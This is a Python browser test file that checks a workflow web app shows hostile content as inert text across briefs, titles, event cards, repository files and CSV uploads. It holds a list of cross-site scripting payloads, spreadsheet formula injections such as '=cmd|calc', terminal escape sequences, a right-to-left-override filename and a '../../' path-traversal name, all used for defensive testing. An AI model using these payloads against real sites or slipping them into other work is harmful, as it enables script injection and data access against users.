"""Hostile content is shown as text: nothing of it runs, loads or leaves, wherever it stands."""

import json
from typing import Any

import httpx
import pytest
from playwright.async_api import expect

from libs.events.models import NewEvent
from libs.workflow.service import StartedDesign
from tests.api.stage import card, packed
from tests.browser.theatre import Theatre
from tests.browser.visit import Opener, Visit

PWN = "window.__pwned = true"
ATTACKS = (
    f"<script>{PWN}</script>",
    f'<img src=x onerror="{PWN}">',
    f'<svg onload="{PWN}"><script>{PWN}</script></svg>',
    f'<a href="javascript:{PWN}">click</a> [click](javascript:{PWN})',
    "![pixel](http://example.invalid/pixel.png)",
    '<img src="http://example.invalid/raw.png"><iframe src="http://example.invalid/"></iframe>',
    f"```mermaid\n%%{{init: {{'securityLevel': 'loose'}}}}%%\ngraph TD; a-->b; click a \"javascript:{PWN}\"\n```",
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "\x1b[31mred\x1b[0m\x1b]8;;http://example.invalid/\x07link\x1b]8;;\x07",
    "user\u202egnp.exe",
    "${__pwned} {{constructor.constructor('window.__pwned=1')()}}",
    "x" * 3_000,
)
POISON = "\n\n".join(ATTACKS)
WATCH = """window.__violations = [];
document.addEventListener("securitypolicyviolation", (event) => window.__violations.push(event.violatedDirective));"""
WHAT_RAN = """() => {
    const all = (selector) => [...document.querySelectorAll(selector)];
    return {
        pwned: window.__pwned ?? null,
        violations: window.__violations,
        scripts: all("main script, main iframe, main object, main embed, main img").length,
        links: all("a[href]").filter((link) => !link.href.startsWith("http")).length,
        handlers: all("*").filter((e) => e.getAttributeNames().some((name) => name.startsWith("on"))).length,
    };
}"""
MARKDOWN = (
    f"# Why\n\nThe words are here.\n\n{POISON}\n\n<style>* {{ display: none }}</style>\n\nThe end is here.\n"
)
FILES = {
    "README.md": MARKDOWN.encode(),
    f"<img src=x onerror={PWN.replace(' ', '')}>.md": b"name\n",
    "../../escape.txt": b"outside\n",
    "page.html": f"<html><body onload='{PWN}'><script>{PWN}</script></body></html>".encode(),
    "picture.svg": f"<svg xmlns='http://www.w3.org/2000/svg' onload='{PWN}'><script>{PWN}</script></svg>".encode(),
    "table.csv": b'a,b\n=HYPERLINK("http://example.invalid/"),@SUM(A1)\n',
    "terminal.log": b"\x1b[2J\x1b]0;title\x07 words\n",
    "line.txt": b"y" * 100_000 + b" end\n",
    "nul.txt": b"before\x00after\n",
    "diagram.mmd": ATTACKS[6].encode(),
}
ALWAYS = ("README.md", "../../escape.txt", "page.html", "terminal.log")
"""Opened in every run of the tests; the others in the long one."""


async def hostile_visit(visit: Opener, theatre: Theatre, path: str = "") -> Visit:
    """A page that keeps what its content policy had to refuse, and fails for a dialog."""
    looked: Visit = await visit(theatre.base, "", viewport={"width": 1920, "height": 1080})
    await looked.page.add_init_script(WATCH)
    looked.page.on("dialog", lambda dialog: looked.errors.append(f"a dialog: {dialog.message}"))
    if path:
        await looked.goto(path)
    return looked


async def assert_nothing_ran(looked: Visit) -> None:
    await looked.page.wait_for_load_state("load")
    found: dict[str, Any] = await looked.page.evaluate(WHAT_RAN)
    assert found == {"pwned": None, "violations": [], "scripts": 0, "links": 0, "handlers": 0}
    looked.assert_harmless()


class TestBriefs:
    async def test_a_hostile_brief_is_typed_sent_and_shown_as_text(
        self, theatre: Theatre, visit: Opener
    ) -> None:
        looked = await hostile_visit(visit, theatre, "/")
        brief = f"A churn score for 250,000 customers. {ATTACKS[0]} {ATTACKS[1]} {ATTACKS[4]} {ATTACKS[9]}"
        design_id = await looked.start(brief)
        await expect(looked.page.get_by_label("Brief")).to_contain_text(ATTACKS[0])
        await expect(looked.page.get_by_label("Brief")).to_contain_text(ATTACKS[1])
        await assert_nothing_ran(looked)
        for path in ("/", "/inbox/", "/settings/", f"/runs/?id={design_id}&tab=versions"):
            await looked.goto(path)
            await expect(looked.page.get_by_role("heading").first).to_be_visible()
            await assert_nothing_ran(looked)

    async def test_a_hostile_address_opens_nothing(self, theatre: Theatre, visit: Opener) -> None:
        looked = await hostile_visit(visit, theatre)
        for path in (
            f"/runs/?id={ATTACKS[1]}",
            f"/runs/?id=javascript:{PWN}&tab={ATTACKS[0]}",
            f"/shared/#{ATTACKS[1]}",
        ):
            await looked.goto(path.replace("#", "%23") if "shared" not in path else path)
            await expect(looked.page.locator("[role=alert], main p").first).to_be_visible()
            await assert_nothing_ran(looked)


class TestStories:
    async def test_cards_gates_decisions_and_errors_are_text(self, theatre: Theatre, visit: Opener) -> None:
        design = await poisoned(theatre)
        looked = await hostile_visit(visit, theatre)
        await looked.open_run(design.decision_set_id)
        log = looked.page.get_by_role("log")
        await expect(log).to_contain_text(ATTACKS[0])
        for opener in await log.get_by_role("article").get_by_role("button").all():
            await opener.click()
        await assert_nothing_ran(looked)
        for tab in ("requirements", "timeline", "checks", "policy", "versions", "cost", "architecture"):
            await looked.open_run(design.decision_set_id, tab)
            await expect(looked.page.get_by_role("tabpanel")).to_be_visible()
            await assert_nothing_ran(looked)
        await looked.goto("/inbox/")
        await expect(looked.page.locator("main").get_by_text(ATTACKS[0]).first).to_be_visible()
        await assert_nothing_ran(looked)

    async def test_names_of_designs_and_projects_are_text(self, theatre: Theatre, visit: Opener) -> None:
        design = await theatre.stage.start()
        path = f"/api/decision-sets/{design.decision_set_id}"
        title = f"{ATTACKS[1]} {ATTACKS[9]}"
        answer = await theatre.client.patch(path, json={"title": title})
        assert answer.is_success, answer.text
        project = (await theatre.client.get("/api/projects")).json()["items"][0]
        answer = await theatre.client.patch(
            f"/api/projects/{project['id']}", json={"name": f"{ATTACKS[1]} project"}
        )
        assert answer.is_success, answer.text
        looked = await hostile_visit(visit, theatre)
        await looked.open_run(design.decision_set_id)
        await expect(looked.page.get_by_role("heading", level=1)).to_contain_text(ATTACKS[1])
        await assert_nothing_ran(looked)
        await looked.goto("/settings/")
        await expect(looked.page.get_by_text("project").first).to_be_visible()
        await assert_nothing_ran(looked)


class TestFiles:
    async def test_the_rationale_drops_markup_and_remote_images(
        self, theatre: Theatre, visit: Opener
    ) -> None:
        design = await with_files(theatre)
        looked = await hostile_visit(visit, theatre)
        await looked.open_run(design.decision_set_id, "rationale")
        article = looked.page.get_by_role("tabpanel").get_by_role("article")
        await expect(article).to_contain_text("The words are here.")
        await expect(article).to_contain_text("The end is here.")
        await expect(article).to_contain_text("[pixel]")
        await expect(article.get_by_text("The end is here.")).to_be_visible()
        assert await article.locator("img, script, style, svg, iframe, [style]").count() == 0
        await assert_nothing_ran(looked)

    @pytest.mark.parametrize(
        "path",
        [pytest.param(path, marks=() if path in ALWAYS else pytest.mark.long) for path in sorted(FILES)],
    )
    async def test_every_file_is_shown_as_its_text(self, theatre: Theatre, visit: Opener, path: str) -> None:
        design = await with_files(theatre)
        looked = await hostile_visit(visit, theatre)
        await looked.open_run(design.decision_set_id, "repository")
        await looked.page.get_by_label("Find a file").fill(path)
        await looked.page.get_by_role("list", name="Found files").get_by_role("button").first.click()
        panel = looked.page.get_by_role("tabpanel")
        if ".." in path:
            # A browser would take the steps out of the address and ask for something else.
            await expect(panel.get_by_role("alert")).to_contain_text("leads out of the repository")
            asked = [
                request for request in looked.requests if "escape" in request and "/runs/" not in request
            ]
            assert not asked
            return
        await expect(panel.locator("[data-line='1']")).to_be_visible()
        text = await panel.locator("[role=region][aria-label^='Content of']").text_content()
        assert text
        assert not {"\x1b", "\x00", "\u202e", "\x07"} & set(text), (
            "what steers a terminal or hides is spelled out"
        )
        if path == "page.html":
            assert "<script>" in text
        await assert_nothing_ran(looked)
        # Opened by its address it is text as well, and nobody's page.
        answer = await theatre.client.get(
            f"/api/decision-sets/{design.decision_set_id}/files/{httpx_path(path)}"
        )
        if answer.status_code == 200:
            assert answer.headers["content-type"].startswith(("text/plain", "application/octet-stream"))
            assert answer.headers["content-security-policy"].startswith("sandbox")


class TestTables:
    async def test_columns_and_cells_are_text(self, theatre: Theatre, visit: Opener) -> None:
        header = f'id,"{ATTACKS[1].replace(chr(34), chr(34) * 2)}",=cmd|calc,churned'
        rows = [
            f'{n},"<script>{PWN}</script>","=HYPERLINK(""http://example.invalid"")",{n % 2}'
            for n in range(300)
        ]
        table = "\n".join([header, *rows]).encode()
        looked = await hostile_visit(visit, theatre, "/")
        await looked.page.locator("input[type=file]").set_input_files(
            {"name": "<img src=x onerror=alert(1)>.csv", "mimeType": "text/csv", "buffer": table}
        )
        await expect(looked.page.get_by_text("300").first).to_be_visible()
        await assert_nothing_ran(looked)


async def poisoned(theatre: Theatre) -> StartedDesign:
    """A design whose every told word is hostile, waiting at a gate."""
    stage = theatre.stage
    design = await stage.start(f"A churn score. {POISON[:3000]}")
    await theatre.begin(design, "planner")
    value = card(1).data | {
        "title": ATTACKS[1],
        "choice": ATTACKS[0],
        "justification": POISON,
        "trigger": ATTACKS[3],
        "agent": ATTACKS[2],
        "risks": list(ATTACKS),
        "next_steps": list(ATTACKS),
        "rejected": [{"name": attack[:200], "why": attack} for attack in ATTACKS],
        "inputs": [{"kind": "constraint", "name": ATTACKS[1], "value": ATTACKS[0], "quote": ATTACKS[2]}],
    }
    decided = {
        "gate_id": "gate_1",
        "decision": "reject",
        "actor": f"user:{ATTACKS[1]}",
        "comment": POISON,
        "at": value["at"],
    }
    await stage.tell(
        design,
        NewEvent(type="reason-card", key="poison.card", node="planner", data=value),
        NewEvent(
            type="node-error", key="poison.error", node="planner", data={"message": POISON, "attempt": 1}
        ),
        NewEvent(type="gate-decided", key="poison.decided", node="hitl_gate_final", data=decided),
        NewEvent(
            type="check-result",
            key="poison.check",
            node="validators",
            data={"check": ATTACKS[0], "status": "fail", "reason": POISON, "tool": ATTACKS[1], "seconds": 1},
        ),
    )
    await stage.gate(
        design,
        title=f"{ATTACKS[0]} {ATTACKS[1]}",
        shown={"conflicts": [{"message": POISON, "code": ATTACKS[0]}]},
    )
    return design


async def with_files(theatre: Theatre) -> StartedDesign:
    """A finished design whose files and rationale are hostile."""
    design = await theatre.stage.start()
    await theatre.begin(design, "codegen")
    await theatre.stage.artifact(design, "repository.zip", packed(FILES), "application/zip")
    await theatre.stage.artifact(design, "rationale.md", MARKDOWN.encode(), "text/markdown")
    diff = {"code": {"files": []}, "plan": {"changed": False}, "note": POISON}
    await theatre.stage.artifact(design, "diff.json", json.dumps(diff).encode(), "application/json")
    await theatre.stage.end(design)
    return design


def httpx_path(path: str) -> str:
    """The path of a file as one would type it into the address."""
    return str(httpx.URL("http://x/").copy_with(path=f"/{path}").raw_path.decode()).lstrip("/")
